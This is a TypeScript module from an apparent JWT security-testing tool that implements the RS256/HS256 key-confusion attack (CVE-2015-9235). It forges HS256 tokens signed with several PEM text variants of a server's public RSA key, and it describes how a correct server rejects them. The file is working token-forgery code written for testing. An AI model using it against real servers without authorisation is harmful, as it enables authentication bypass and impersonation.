import { base64url, type JWK } from 'jose';
import { encodeDer } from '../keys/der';
import { describeJwk, jwkToPem, readKey, toPem } from '../keys/export';
import { hmacSha256, signingInput } from './encode';
import type { AttackPreset } from './types';

/**
 * A JWK's unsigned big-endian number as DER INTEGER content (X.690 §8.3): no leading zero bytes,
 * then one 0x00 in front when the high bit is set, so it does not read as negative.
 */
function derUnsigned(member: string | undefined): Uint8Array {
  const bytes = base64url.decode(member ?? '');
  let start = 0;
  while (start < bytes.length - 1 && bytes[start] === 0) start++;
  const digits = bytes.subarray(start);
  return digits[0]! & 0x80 ? Uint8Array.of(0, ...digits) : digits;
}

/** RFC 8017 A.1.1: RSAPublicKey ::= SEQUENCE { modulus INTEGER, publicExponent INTEGER }. */
const pkcs1PublicKey = (jwk: JWK) =>
  encodeDer(0x30, encodeDer(0x02, derUnsigned(jwk.n)), encodeDer(0x02, derUnsigned(jwk.e)));

const withCrlf = (text: string) => text.replace(/\n/g, '\r\n');

/**
 * The texts a vulnerable server may hold its public key as, each one a key to try. The server
 * reads its key's text as the HMAC secret, so every byte counts: SPKI ("BEGIN PUBLIC KEY") or
 * PKCS#1 ("BEGIN RSA PUBLIC KEY", as Go's MarshalPKCS1PublicKey and `openssl rsa
 * -RSAPublicKey_out` write it); a .pem file's final newline, or none when the server trims the
 * key or reads it from an environment variable; "\n" line ends, or "\r\n" from a file saved on
 * Windows (or checked out there by Git). The first is the usual one, the rest its variants.
 */
function keyTexts(jwk: JWK, spkiPem: string): { when?: string; text: string }[] {
  const spkiFile = `${spkiPem.trimEnd()}\n`;
  const pkcs1File = toPem('RSA PUBLIC KEY', pkcs1PublicKey(jwk));
  return [
    { text: spkiFile },
    {
      when: 'If the server trims its key or reads it from an environment variable (the PEM without its final newline)',
      text: spkiFile.trimEnd(),
    },
    {
      when: 'If the server holds its key as PKCS#1 ("BEGIN RSA PUBLIC KEY"), in a .pem file',
      text: pkcs1File,
    },
    {
      when: 'If the server holds PKCS#1 and trims it (or reads it from an environment variable)',
      text: pkcs1File.trimEnd(),
    },
    { when: 'If the key file has Windows line ends (CRLF)', text: withCrlf(spkiFile) },
    {
      when: 'If the key file has Windows line ends and the server trims it',
      text: withCrlf(spkiFile).trimEnd(),
    },
    { when: 'If the server holds PKCS#1 with Windows line ends', text: withCrlf(pkcs1File) },
    {
      when: 'If the server holds PKCS#1 with Windows line ends and trims it',
      text: withCrlf(pkcs1File).trimEnd(),
    },
  ];
}

export const keyConfusion: AttackPreset = {
  id: 'key-confusion',
  title: 'RS/HS key confusion',
  tests:
    'Whether the server lets the token pick HS256 while holding an RSA public key: the token is HMAC-signed with the bytes of the public key PEM, which everyone can download.',
  correctServer:
    'Rejects it: the key is bound to one algorithm (RS256), so an HS256 token is refused before any HMAC is computed.',
  reference: 'RFC 8725 §2.1, §3.1; CVE-2015-9235',
  needs: 'publicKey',
  async build({ header, payload, publicKey }) {
    if (!publicKey) throw new Error("Paste or generate the server's RSA public key first.");
    const reading = await readKey(publicKey);
    if (!reading.ok) throw new Error(reading.reason);
    if (reading.jwk.kty !== 'RSA')
      throw new Error(
        `Key confusion targets servers that hold an RSA public key; this key is ${describeJwk(reading.jwk)}.`,
      );
    const { publicPem } = await jwkToPem(reading.jwk);
    const forgedHeader = { ...header, alg: 'HS256' };
    const input = signingInput(forgedHeader, payload);
    const encoder = new TextEncoder();
    const [usual, ...variants] = await Promise.all(
      keyTexts(reading.jwk, publicPem).map(async ({ when, text }) => ({
        when: when ?? '',
        token: `${input}.${await hmacSha256(encoder.encode(text), input)}`,
        attackerKey: text,
      })),
    );
    return {
      token: usual!.token,
      header: forgedHeader,
      payload,
      attackerKey: usual!.attackerKey,
      note: 'HMAC key: the public key PEM exactly as a .pem file holds it, final newline included.',
      variants,
    };
  },
};
